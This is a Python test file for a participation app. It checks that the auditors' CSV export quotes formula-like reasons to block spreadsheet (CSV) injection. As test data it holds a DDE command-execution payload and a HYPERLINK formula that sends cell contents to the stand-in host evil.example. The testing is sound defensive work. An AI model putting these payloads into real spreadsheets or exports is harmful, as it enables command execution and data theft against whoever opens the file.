"""A formula typed by a resident or a member of staff is text in the auditors' CSV export.

`audit export --format csv` and `/beheer/audit/export` both write through `export_events`; a
spreadsheet must open the reasons as the text they are, never run them (OWASP CSV injection).
"""

from __future__ import annotations

import csv
import io
from uuid import UUID

import pytest
from click.testing import CliRunner

from participatie.application.app import ParticipatieApp
from participatie.application.schemas import SubmissionSchema
from participatie.audit.exports import ExportFilter, export_events
from participatie.bootstrap import Container
from participatie.cli import main
from participatie.domain.commands import AcceptHandoff, Route, Withdraw
from participatie.domain.routing import RoutingDecision
from participatie.domain.values import Actor, Role
from tests.conftest import submission

RESIDENT_REASON = "=cmd|' /C calc'!A0"
STAFF_REASON = '=HYPERLINK("http://evil.example/?x="&A1,"Meer informatie")'
MANAGER = Actor("u-centrum", Role.AREA_MANAGER, "gebiedsteam-centrum")


def submit(app: ParticipatieApp) -> UUID:
    data = SubmissionSchema(app.area_index()).load_submission(submission())
    return app.submit(data).initiative_id


def formulas(container: Container) -> None:
    """A withdrawal and an accepted hand-off, each with a formula as its reason."""
    app = container.app
    withdrawn = submit(app)
    initiator = app.get_initiative(withdrawn).initiator.subject_id
    app.act(withdrawn, Withdraw(reason=RESIDENT_REASON), actor=Actor.initiator(initiator))
    accepted = submit(app)
    decision = RoutingDecision("gebiedsteam-centrum", (), "r1", "2025-1", "v1", 5, "regel")
    app.act(accepted, Route(decision=decision), actor=Actor.system("router"))
    app.act(accepted, AcceptHandoff(reason=STAFF_REASON), actor=MANAGER)


def reasons(text: str) -> dict[str, str]:
    """Event name -> its reason cell, for the events that have one."""
    rows = list(csv.DictReader(io.StringIO(text)))
    return {row["event"]: row["reason"] for row in rows if row["reason"]}


def test_formula_reasons_are_quoted_in_the_csv_export(container: Container) -> None:
    formulas(container)
    out = io.StringIO()
    export_events(container.app, ExportFilter(), out, format="csv", actor=Actor.system("t"))
    assert reasons(out.getvalue()) == {
        "Routed": "regel",
        "Withdrawn": "'=cmd|' /C calc'!A0",
        "HandoffAccepted": '\'=HYPERLINK("http://evil.example/?x="&A1,"Meer informatie")',
    }


def test_the_cli_csv_export_quotes_formula_reasons(
    container: Container, monkeypatch: pytest.MonkeyPatch
) -> None:
    formulas(container)
    for name, value in container.settings.as_environ().items():
        monkeypatch.setenv(name, value)
    result = CliRunner().invoke(main, ["audit", "export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    body = result.output[result.output.index("position,at,") :]
    found = reasons(body)
    assert found["Withdrawn"] == "'=cmd|' /C calc'!A0"
    assert found["HandoffAccepted"].startswith("'=HYPERLINK(")
    assert "\n=" not in body and ",=" not in body
